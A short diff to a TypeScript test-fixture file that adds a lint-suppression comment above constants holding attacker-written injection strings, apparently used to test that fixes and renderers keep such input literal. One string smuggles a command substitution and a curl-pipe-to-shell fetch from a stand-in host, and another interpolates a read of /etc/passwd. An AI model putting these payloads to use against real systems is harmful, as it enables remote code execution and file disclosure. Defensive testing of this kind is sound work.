@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are attacker input that must stay literal
 /** Attacker-written strings from issue 8, used in every field that reaches a fix or a renderer. */
 export const SHELL_INJECTION = 'dev$(touch pwned) x;curl https://evil.example/p|sh #';
 export const HCL_INJECTION = '" ${file("/etc/passwd")} "';
